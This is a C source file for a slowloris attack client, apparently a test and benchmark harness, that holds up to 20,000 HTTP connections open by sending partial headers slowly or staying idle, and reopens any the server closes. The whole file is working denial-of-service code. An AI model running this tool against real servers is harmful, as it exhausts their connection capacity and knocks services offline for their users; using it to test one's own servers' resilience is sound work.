/* slowloris: an attacker for tests and benchmarks. It holds CONNECTIONS connections to an HTTP
 * server, each sending a request's first line and then one more header line every INTERVAL_MS,
 * never ending the header (INTERVAL_MS 0: it sends nothing at all, idle connections), for
 * SECONDS; a connection the server closes is opened again (trickling only). Then it closes
 * everything and exits.
 *
 *   slowloris ADDR PORT PATH CONNECTIONS SECONDS INTERVAL_MS [FROM_ADDR]
 *
 * FROM_ADDR binds its side (127.0.0.2: another client address than the usual 127.0.0.1). Prints
 * "ready N" once every connection was tried (N are up), and at the end "done: opened N,
 * closed by the server K, open at the end M". */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNECTIONS 20000

typedef struct slot {
  int fd;         /* -1: closed */
  int sent_first; /* the request line went out */
  long next_ms;   /* when it next sends a header line */
} slot;

static struct sockaddr_in to, from;
static int bind_from;
static unsigned long opened, closed_by_server;

static long now_ms(void)
{
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int open_one(void)
{
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (fd < 0)
    return -1;
  if ((bind_from && bind(fd, (struct sockaddr *)&from, sizeof from) != 0) ||
      (connect(fd, (struct sockaddr *)&to, sizeof to) != 0 && errno != EINPROGRESS)) {
    close(fd);
    return -1;
  }
  opened++;
  return fd;
}

/* Whether the server closed s (an end of stream or an error on it). */
static int server_closed(const struct pollfd *p)
{
  char buf[512];
  if (p->revents & (POLLERR | POLLHUP))
    return 1;
  return (p->revents & POLLIN) && recv(p->fd, buf, sizeof buf, MSG_DONTWAIT) <= 0;
}

/* One line more of the header (the request line first), when its time has come. */
static void trickle(slot *s, const char *path, int interval, long now)
{
  char line[600];
  if (s->fd < 0 || now < s->next_ms)
    return;
  int n = s->sent_first ? snprintf(line, sizeof line, "X-Slow-%ld: 1\r\n", now % 100000)
                        : snprintf(line, sizeof line, "GET %.500s HTTP/1.1\r\nHost: x\r\n", path);
  if (send(s->fd, line, (size_t)n, MSG_NOSIGNAL | MSG_DONTWAIT) > 0)
    s->sent_first = 1;
  s->next_ms = now + interval;
}

static void raise_file_limit(void)
{
  struct rlimit r;
  if (getrlimit(RLIMIT_NOFILE, &r) == 0 && r.rlim_cur < r.rlim_max) {
    r.rlim_cur = r.rlim_max;
    setrlimit(RLIMIT_NOFILE, &r);
  }
}

static int run(slot *slots, struct pollfd *pfds, int n, const char *path, int seconds, int interval)
{
  long end = now_ms() + seconds * 1000L;
  int up = 0;
  for (int i = 0; i < n; i++) {
    slots[i].fd = open_one();
    slots[i].sent_first = 0, slots[i].next_ms = 0;
    up += slots[i].fd >= 0;
  }
  printf("ready %d\n", up);
  fflush(stdout);
  for (long now = now_ms(); now < end; now = now_ms()) {
    for (int i = 0; i < n; i++)
      pfds[i].fd = slots[i].fd, pfds[i].events = POLLIN, pfds[i].revents = 0;
    poll(pfds, (nfds_t)n, 100);
    for (int i = 0; i < n; i++) {
      if (slots[i].fd >= 0 && server_closed(&pfds[i])) {
        close(slots[i].fd);
        closed_by_server++;
        slots[i].fd = -1, slots[i].next_ms = now + interval;
      }
      if (slots[i].fd < 0 && interval > 0 && now >= slots[i].next_ms) /* opened again after a pause */
        slots[i].fd = open_one(), slots[i].sent_first = 0;
      if (interval > 0)
        trickle(&slots[i], path, interval, now);
    }
  }
  int open = 0;
  for (int i = 0; i < n; i++)
    if (slots[i].fd >= 0)
      open++, close(slots[i].fd);
  return open;
}

int main(int argc, char **argv)
{
  if (argc < 7) {
    fprintf(stderr, "usage: %s ADDR PORT PATH CONNECTIONS SECONDS INTERVAL_MS [FROM_ADDR]\n", argv[0]);
    return 2;
  }
  int n = atoi(argv[4]), seconds = atoi(argv[5]), interval = atoi(argv[6]);
  memset(&to, 0, sizeof to), memset(&from, 0, sizeof from);
  to.sin_family = from.sin_family = AF_INET;
  to.sin_port = htons((unsigned short)atoi(argv[2]));
  bind_from = argc > 7;
  if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || (bind_from && inet_pton(AF_INET, argv[7], &from.sin_addr) != 1) ||
      n < 1 || n > MAX_CONNECTIONS || seconds < 1 || seconds > 600 || interval < 0) {
    fprintf(stderr, "%s: bad arguments\n", argv[0]);
    return 2;
  }
  raise_file_limit();
  slot *slots = calloc((size_t)n, sizeof *slots);
  struct pollfd *pfds = calloc((size_t)n, sizeof *pfds);
  if (slots == NULL || pfds == NULL)
    return 1;
  int open = run(slots, pfds, n, argv[3], seconds, interval);
  printf("done: opened %lu, closed by the server %lu, open at the end %d\n", opened, closed_by_server, open);
  free(slots), free(pfds);
  return 0;
}
